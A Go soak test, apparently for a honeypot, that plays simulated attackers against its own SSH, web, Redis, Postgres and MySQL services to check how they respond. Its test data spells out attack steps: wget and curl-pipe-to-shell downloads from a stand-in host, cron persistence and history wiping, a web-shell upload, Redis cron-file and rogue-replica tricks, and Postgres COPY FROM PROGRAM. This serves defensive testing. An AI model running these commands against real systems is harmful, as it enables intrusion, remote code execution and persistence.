//go:build servers && soak

package e2e

import (
	"bufio"
	"context"
	"database/sql/driver"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"os"
	"os/exec"
	"strings"
	"time"

	"github.com/go-sql-driver/mysql"
	"github.com/jackc/pgx/v5"
	"github.com/jackc/pgx/v5/pgconn"
	"golang.org/x/crypto/ssh"
)

// login connects to SSH and logs in as root.
func (b *besiegers) login(from net.IP, tries ...string) (*ssh.Client, error) {
	c, err := b.dial("ssh", from)
	if err != nil {
		return nil, err
	}
	asked := 0
	next := ssh.PasswordCallback(func() (string, error) { asked++; return tries[asked-1], nil })
	conn, channels, requests, err := ssh.NewClientConn(c, b.at["ssh"], &ssh.ClientConfig{
		User: "root", Auth: []ssh.AuthMethod{ssh.RetryableAuthMethod(next, len(tries))}, HostKeyCallback: ssh.InsecureIgnoreHostKey(),
	})
	b.tried.Add(int64(asked))
	if err != nil {
		return nil, errors.Join(err, c.Close())
	}
	return ssh.NewClient(conn, channels, requests), nil
}

// guess tries passwords that are wrong; the third would be let in, as the decky's
// default has it.
func (b *besiegers) guess(r *rand.Rand) error {
	c, err := b.login(b.stranger(), fmt.Sprint("a", r.Uint32()), fmt.Sprint("b", r.IntN(1000)))
	if err == nil {
		return errors.Join(errors.New("a wrong password logs in"), c.Close())
	}
	if !strings.Contains(err.Error(), "unable to authenticate") {
		return err
	}
	return nil
}

// commands runs some without a terminal, as worms do.
func (b *besiegers) commands(r *rand.Rand) error {
	c, err := b.login(regular(r), b.password)
	if err != nil {
		return err
	}
	defer func() { _ = c.Close() }()
	for _, line := range []string{
		"uname -a; id; cat /proc/cpuinfo | grep -c processor", "cd /tmp && wget -t 1 -T 2 http://198.51.100.7/x.sh -O x.sh; curl -s --connect-timeout 2 http://198.51.100.7/y | sh",
		"for i in 1 2 3 4 5; do echo $i >> /tmp/out; done; sort -r /tmp/out | head -2; rm -f /tmp/out x.sh", "ps aux | grep -v grep | awk '{print $2}' | wc -l",
		"(crontab -l; echo '* * * * * /tmp/x') | crontab -; crontab -r; history -c; echo the end",
	} {
		out, err := output(c, line)
		if err != nil {
			return fmt.Errorf("%s: %w", line, err)
		}
		if strings.HasSuffix(line, "the end") && !strings.Contains(out, "the end\n") {
			return fmt.Errorf("%s: %q", line, out)
		}
	}
	return nil
}

// output runs a command; how it exits is not asked.
func output(c *ssh.Client, line string) (string, error) {
	s, err := c.NewSession()
	if err != nil {
		return "", err
	}
	defer func() { _ = s.Close() }()
	out, err := s.CombinedOutput(line)
	var status *ssh.ExitError
	if errors.As(err, &status) {
		err = nil
	}
	return string(out), err
}

// terminal types at one for a while.
func (b *besiegers) terminal(r *rand.Rand) error {
	c, err := b.login(regular(r), b.password)
	if err != nil {
		return err
	}
	defer func() { _ = c.Close() }()
	s, err := c.NewSession()
	if err != nil {
		return err
	}
	defer func() { _ = s.Close() }()
	typed, err := s.StdinPipe()
	if err != nil {
		return err
	}
	var shown strings.Builder
	s.Stdout = &shown
	if err := errors.Join(s.RequestPty("xterm", 40, 120, nil), s.Shell()); err != nil {
		return err
	}
	for _, line := range []string{"w", "ls -la /", "cat /etc/passwd", "top -b -n1 | head", "echo fo\x7fo > /tmp/foo; rm /tmp/foo", "df -h", "free -m", "exit 7"} {
		time.Sleep(time.Duration(r.IntN(3000)) * time.Millisecond)
		_ = s.WindowChange(30+r.IntN(20), 100)
		if _, err := io.WriteString(typed, line+"\r"); err != nil {
			return err
		}
	}
	var status *ssh.ExitError
	if err := s.Wait(); !errors.As(err, &status) || status.ExitStatus() != 7 {
		return fmt.Errorf("the shell ends with %v after %q", err, shown.String())
	}
	return nil
}

// breakOff logs in and is gone while a command runs.
func (b *besiegers) breakOff(r *rand.Rand) error {
	c, err := b.login(regular(r), b.password)
	if err != nil {
		return err
	}
	s, err := c.NewSession()
	if err != nil {
		return errors.Join(err, c.Close())
	}
	commands := []string{"cat /dev/zero", "sleep 1000", "cat > /tmp/half", "while :; do echo x; done", "yes | head -c 100000000 | sort"}
	if err := s.Start(commands[r.IntN(len(commands))]); err != nil {
		return errors.Join(err, c.Close())
	}
	time.Sleep(time.Duration(r.IntN(1000)) * time.Millisecond)
	return c.Close()
}

// upload leaves a file with OpenSSH's own program, looks at it, and takes it away.
func (b *besiegers) upload(r *rand.Rand) error {
	id := fmt.Sprint(r.Uint64())
	file, err1 := b.written("x"+id, script(r), 0o600)
	ask, err2 := b.written("ask"+id, "#!/bin/sh\necho '"+b.password+"'\n", 0o700)
	if err := errors.Join(err1, err2); err != nil {
		return err
	}
	defer func() { _, _ = os.Remove(file), os.Remove(ask) }()
	host, port, _ := net.SplitHostPort(b.at["ssh"])
	ctx, cancel := context.WithTimeout(context.Background(), patience)
	defer cancel()
	cmd := exec.CommandContext(ctx, b.sftp, "-F", "none", "-P", port, "-o", "BindAddress="+regular(r).String(), "-o", "UserKnownHostsFile=/dev/null",
		"-o", "StrictHostKeyChecking=no", "-o", "NumberOfPasswordPrompts=1", "-o", "IdentityFile=none", "-o", "IdentityAgent=none", "root@"+host)
	cmd.Env = append(os.Environ(), "SSH_ASKPASS="+ask, "SSH_ASKPASS_REQUIRE=force", "HOME="+b.dir, "LANG=C")
	cmd.Stdin = strings.NewReader("put " + file + " /tmp/.x.sh\nls -l /tmp\nchmod 755 /tmp/.x.sh\nrm /tmp/.x.sh\nbye\n")
	b.connections.Add(1)
	b.tried.Add(1)
	b.left.Add(1)
	if out, err := cmd.CombinedOutput(); err != nil {
		return fmt.Errorf("sftp: %w: %s", err, out)
	}
	return nil
}

// browse looks at pages, tries a password, and leaves a file.
func (b *besiegers) browse(r *rand.Rand) error {
	transport := &http.Transport{DialContext: b.dialer("http", regular(r))}
	defer transport.CloseIdleConnections()
	for _, ask := range []struct {
		method, path, body string
		status             int
	}{
		{"GET", "/", "", 200}, {"GET", "/wp-login.php", "", 404}, {"POST", "/cgi-bin/x", "a=b", 404},
		{"GET", "/admin", "", 401}, {"PUT", "/shell.php", script(r), 404},
	} {
		q, err := http.NewRequest(ask.method, "http://"+b.at["http"]+ask.path, strings.NewReader(ask.body))
		if err != nil {
			return err
		}
		if ask.status == 401 {
			q.SetBasicAuth("admin", fmt.Sprint(r.IntN(10_000)))
		}
		a, err := transport.RoundTrip(q)
		if err != nil {
			return err
		}
		_, err = io.Copy(io.Discard, a.Body)
		if err = errors.Join(err, a.Body.Close()); err != nil || a.StatusCode != ask.status {
			return fmt.Errorf("%s %s: status %d, error %v", ask.method, ask.path, a.StatusCode, err)
		}
	}
	b.tried.Add(1)
	b.left.Add(1)
	return nil
}

// redis writes a key where cron would find it. Two of one address have one server,
// which the other may have made a replica for a moment.
func (b *besiegers) redis(r *rand.Rand) error {
	c, err := b.dial("redis", regular(r))
	if err != nil {
		return err
	}
	defer func() { _ = c.Close() }()
	answers := bufio.NewReader(c)
	for _, ask := range []struct{ line, want string }{
		{"AUTH " + fmt.Sprint(r.IntN(10_000)), "-ERR AUTH"}, {"SET x " + fmt.Sprint(r.Uint64()), "+OK"}, {"CONFIG SET dir /var/spool/cron", "+OK"},
		{"CONFIG SET dbfilename root", "+OK"}, {"SAVE", "+OK"}, {"SLAVEOF 198.51.100.7 6379", "+OK"}, {"SLAVEOF NO ONE", "+OK"}, {"FLUSHALL", "+OK"},
	} {
		if _, err := io.WriteString(c, ask.line+"\r\n"); err != nil {
			return err
		}
		if got, err := answers.ReadString('\n'); err != nil || !strings.HasPrefix(got, ask.want) && !strings.HasPrefix(got, "-READONLY ") {
			return fmt.Errorf("%s: %q, error %v", ask.line, got, err)
		}
	}
	b.tried.Add(1)
	return nil
}

// postgres is refused, or let in and asks something.
func (b *besiegers) postgres(r *rand.Rand) error {
	password := b.password
	if r.IntN(2) == 0 {
		password = fmt.Sprint(r.Uint32())
	}
	cfg, err := pgx.ParseConfig("postgres://app:" + password + "@" + b.at["postgres"] + "/postgres?sslmode=require")
	if err != nil {
		return err
	}
	cfg.DialFunc = b.dialer("postgres", regular(r))
	ctx, cancel := context.WithTimeout(context.Background(), patience)
	defer cancel()
	c, err := pgx.ConnectConfig(ctx, cfg)
	b.tried.Add(1)
	var refused *pgconn.PgError
	if password != b.password {
		if errors.As(err, &refused) && refused.Code == "28P01" {
			return nil
		}
		return fmt.Errorf("a wrong password: %v", err)
	}
	if err != nil {
		return err
	}
	defer func() { _ = c.Close(ctx) }()
	var version string
	if err := c.QueryRow(ctx, "SELECT version()").Scan(&version); err != nil {
		return err
	}
	if _, err := c.Exec(ctx, "COPY x FROM PROGRAM 'id'"); !errors.As(err, &refused) {
		return fmt.Errorf("a program: %v", err)
	}
	return nil
}

// mysql is refused.
func (b *besiegers) mysql(r *rand.Rand) error {
	cfg := mysql.NewConfig()
	cfg.User, cfg.Passwd, cfg.Net, cfg.Addr = "root", fmt.Sprint(r.Uint32()), "tcp", b.at["mysql"]
	cfg.DialFunc = b.dialer("mysql", regular(r))
	connector, err := mysql.NewConnector(cfg)
	if err != nil {
		return err
	}
	ctx, cancel := context.WithTimeout(context.Background(), patience)
	defer cancel()
	var c driver.Conn
	if c, err = connector.Connect(ctx); err == nil {
		return errors.Join(errors.New("a wrong password logs in"), c.Close())
	}
	b.tried.Add(1)
	var refused *mysql.MySQLError
	if !errors.As(err, &refused) || refused.Number != 1045 {
		return err
	}
	return nil
}
